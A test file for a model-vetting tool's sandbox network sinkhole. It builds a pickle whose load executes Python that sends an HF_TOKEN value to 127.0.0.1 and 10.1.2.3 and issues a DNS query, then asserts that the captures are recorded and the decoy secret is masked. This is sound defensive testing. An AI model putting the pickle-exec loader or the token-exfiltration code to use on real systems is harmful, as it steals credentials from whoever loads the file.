import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { readFile } from 'node:fs/promises';
import { runSandbox, type Driver, type SandboxResult } from '../../src/sandbox/index.js';
import type { Report } from '../../src/core/report.js';
import { ltrack } from '../helpers/cli.js';

/**
 * --network sinkhole with the real dockerd and image: a payload (a pickle whose load execs a few
 * lines of Python) connects out and sends a marker plus a decoy value, and sends a raw DNS query.
 * Harmless on any host: it dials 127.0.0.1 and 10.1.2.3 only inside the sandbox, whose namespace
 * routes everything to the sink; outside a sandbox the 10.1.2.3 connect is never attempted.
 */
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ltrack-sinkhole-'));
});
afterAll(async () => rm(dir, { recursive: true, force: true }));

const PAYLOAD = `
import os, socket, struct
if os.environ.get('HF_TOKEN', '').startswith('hf_LTRACK-DECOY'):  # only inside the sandbox
    for host, port in (('127.0.0.1', 9), ('10.1.2.3', 443)):
        try:
            s = socket.create_connection((host, port), timeout=3)
            s.sendall(b'LTRACK-EXFIL ' + host.encode() + b' ' + os.environ['HF_TOKEN'].encode())
            s.close(); print('SENT', host, port)
        except OSError as e:
            print('REFUSED', host, port, e.errno)
    q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p for p in (b'exfil', b'ltrack', b'invalid')) + b'\\x00\\x00\\x01\\x00\\x01'
    d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d.settimeout(3)
    try:
        d.sendto(q, ('127.0.0.1', 53)); answer = d.recv(512); print('DNS ANSWER', socket.inet_ntoa(answer[-4:]))
    except OSError as e:
        print('DNS FAILED', e.errno)
`;

async function exfilPickle(name: string): Promise<string> {
  const src = Buffer.from(PAYLOAD, 'utf8');
  const header = Buffer.alloc(5);
  header[0] = 0x58; // BINUNICODE
  header.writeUInt32LE(src.length, 1);
  const path = join(dir, `${name}.pkl`);
  await writeFile(path, Buffer.concat([Buffer.from('\x80\x02cbuiltins\nexec\n', 'latin1'), header, src, Buffer.from('\x85R.', 'latin1')]));
  return path;
}

async function run(driver: Driver, network: 'none' | 'sinkhole'): Promise<SandboxResult> {
  const path = await exfilPickle(`exfil-${driver}-${network}`);
  return runSandbox({ driver, models: [{ hostPath: path, format: 'pickle' }], network, timeoutSec: 60 });
}

describe.each(['docker', 'bwrap'] as Driver[])('network sinkhole (%s)', (driver) => {
  it('records every connection with its original destination and first bytes, and each DNS query', async () => {
    const r = await run(driver, 'sinkhole');
    expect(r.stdout).toContain('SENT 127.0.0.1 9');
    expect(r.stdout).toContain('SENT 10.1.2.3 443');
    expect(r.stdout).toContain('DNS ANSWER 10.255.255.1');
    const tcp = (r.sinkhole ?? []).filter((x) => x.proto === 'tcp');
    const text = (b: string) => Buffer.from(b, 'base64').toString('utf8');
    expect(tcp.map((x) => `${x.dst}:${x.port} ${text(x.bytes)}`).sort()).toEqual([
      '10.1.2.3:443 LTRACK-EXFIL 10.1.2.3 hf_LTRACK-DECOY0000000000000000',
      '127.0.0.1:9 LTRACK-EXFIL 127.0.0.1 hf_LTRACK-DECOY0000000000000000',
    ]);
    expect(r.sinkhole?.filter((x) => x.proto === 'dns').map((x) => `${x.name} ${x.qtype}`)).toEqual(['exfil.ltrack.invalid 1']);
  });

  it('without it the same payload reaches nothing and nothing is recorded', async () => {
    const r = await run(driver, 'none');
    expect(r.stdout).toMatch(/REFUSED 127\.0\.0\.1 9 111/); // ECONNREFUSED on loopback
    expect(r.stdout).toMatch(/REFUSED 10\.1\.2\.3 443 101/); // ENETUNREACH
    expect(r.sinkhole).toBeUndefined();
  });

  it('`ltrack vet --network sinkhole` reports the captures and blocks on the stolen decoy, masked in every output', async () => {
    const model = await exfilPickle(`exfil-vet-${driver}`);
    const out = join(dir, `vet-out-${driver}`);
    const r = ltrack(['vet', model, '--sandbox', driver, '--network', 'sinkhole', '--out', out]);
    expect(r.code, r.stderr).toBe(1);
    const json = await readFile(join(out, 'report.json'), 'utf8');
    const report = JSON.parse(json) as Report;
    const exfil = report.findings.filter((f) => f.ruleId === 'LT-NET-005');
    expect(exfil.map((f) => f.message).sort()).toEqual([
      'a planted decoy secret left the sandbox in a connection to 10.1.2.3:443 (captured by the sinkhole)',
      'a planted decoy secret left the sandbox in a connection to 127.0.0.1:9 (captured by the sinkhole)',
    ]);
    expect(exfil.every((f) => f.severity === 'critical' && f.phase === 'load')).toBe(true);
    expect(report.observed.sinkhole?.map((c) => `${c.proto} ${c.dst ?? c.name}:${c.port ?? ''} ${c.preview}`).sort()).toEqual([
      'dns exfil.ltrack.invalid: \\x124\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x05exfil\\x06ltrack\\x07invalid\\x00\\x00\\x01\\x00\\x01',
      'tcp 10.1.2.3:443 LTRACK-EXFIL 10.1.2.3 [decoy secret masked]',
      'tcp 127.0.0.1:9 LTRACK-EXFIL 127.0.0.1 [decoy secret masked]',
    ]);
    for (const f of ['report.json', 'report.sarif', 'report.html']) expect(await readFile(join(out, f), 'utf8')).not.toContain('hf_LTRACK-DECOY');
    expect(await readFile(join(out, 'report.html'), 'utf8')).toContain('Network sinkhole (3)');
  });
});
